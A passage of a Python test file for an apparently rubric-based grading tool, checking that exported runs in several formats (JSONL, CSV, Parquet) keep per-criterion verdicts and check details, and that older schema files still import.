    assert by_turn == {0: haiku.rubric, 1: autumn, 2: autumn}
    for r in graded:  # each record's criteria are those of its own rubric
        names = {c["name"] for c in r["outputs"]["criteria"]}
        assert all(f"- {n}" in r["inputs"]["rubric"] for n in names), (r["turn"], names)
    export_runs(store, "pairs", tmp_path / "p.jsonl", all_pairs=True)
    pairs = [json.loads(line) for line in (tmp_path / "p.jsonl").read_text().splitlines()]
    assert {p["turn"]: p["rubric"] for p in pairs if p["turn"] == 0} == {0: haiku.rubric}
    # The kept turn's start says the rubric it graded with (it had said the config's first one), so the run
    # view shows each turn's own rubric.
    from rubric_core.views.run_view import RunView

    view = RunView.from_events(first.run_id, store.run_events(first.run_id))
    assert [t.rubric for t in view.turns] == [haiku.rubric, autumn, autumn]


def test_every_export_carries_each_verdict_and_its_check_and_import_keeps_them(
    store: Store, engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 30 item 1: a `check` object and the verdict (pass / fail / n/a) per criterion in every format; schema 5;
    an import keeps them, and a file of schema 4 (no verdict records) still imports, as pass / fail with the check
    'not recorded'."""
    config = dataclasses.replace(
        example_config("haiku", rubric_name="haiku"),
        rubric="- Exactly three lines\n- Is witty and original\n",
        max_iterations=1,
    )
    run_id = engine.execute(config, subscribers=[store.record]).run_id
    export_runs(store, "jsonl", tmp_path / "runs.jsonl")
    (record,) = [json.loads(line) for line in (tmp_path / "runs.jsonl").read_text().splitlines()]
    lines_c, witty = record["metadata"]["final_criteria"]
    assert lines_c["verdict"] in ("pass", "fail") and lines_c["check"]["kind"] == "line_count"
    assert lines_c["check"]["looked_for"] == "exactly 3 lines" and lines_c["check"]["found"].endswith("lines")
    assert witty["verdict"] == "n/a" and witty["passed"] is False and witty["check"]["kind"] == "cannot_judge"
    assert record["schema_version"] == 7
    export_runs(store, "grader-jsonl", tmp_path / "g.jsonl")
    graded = json.loads((tmp_path / "g.jsonl").read_text().splitlines()[0])
    assert [c["verdict"] for c in graded["outputs"]["criteria"]][1] == "n/a"
    export_runs(store, "csv", tmp_path / "c.csv")
    with (tmp_path / "c.csv").open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["verdict"] for r in rows][1] == "n/a" and rows[0]["check"].startswith("line count: ")
    export_runs(store, "parquet", tmp_path / "pq")
    crit = pq.read_table(tmp_path / "pq" / "criteria" / "criteria.parquet").to_pandas()
    assert list(crit["verdict"]) == [lines_c["verdict"], "n/a"] and crit["passed"].isna().tolist() == [False, True]
    assert list(crit["check_kind"]) == ["line_count", "cannot_judge"]

    monkeypatch.setenv("RUBRIC_STUDIO_HOME", str(tmp_path / "other"))
    other = open_store()
    try:
        assert import_runs(other, tmp_path / "runs.jsonl").imported == 1
        back = other.criteria([run_id])
        assert [c["verdict"] for c in back] == [lines_c["verdict"], "n/a"]
        assert back[1]["check"]["kind"] == "cannot_judge" and back[0]["check"] == lines_c["check"]
        # An older file: no verdict, no check, schema 4.
        old = json.loads(json.dumps(record))
        old["id"] = "0" * 32
        old["schema_version"] = old["metadata"]["schema_version"] = 4
        old["metadata"].pop("suite")  # schema 6
        for step in old["metadata"]["history"]:
            step.pop("grader_tools")  # schema 5, as the verdict records
            for c in step["criteria"]:
                c.pop("verdict"), c.pop("check")
        for c in old["metadata"]["final_criteria"]:
            c.pop("verdict"), c.pop("check")
        (tmp_path / "old.jsonl").write_text(json.dumps(old) + "\n", encoding="utf-8")
        assert import_runs(other, tmp_path / "old.jsonl").imported == 1
        old_back = other.criteria(["0" * 32])
        assert [c["verdict"] for c in old_back] == [lines_c["verdict"], "fail"]
        assert {c["check"]["kind"] for c in old_back} == {"unrecorded"}
    finally:
        other.close()
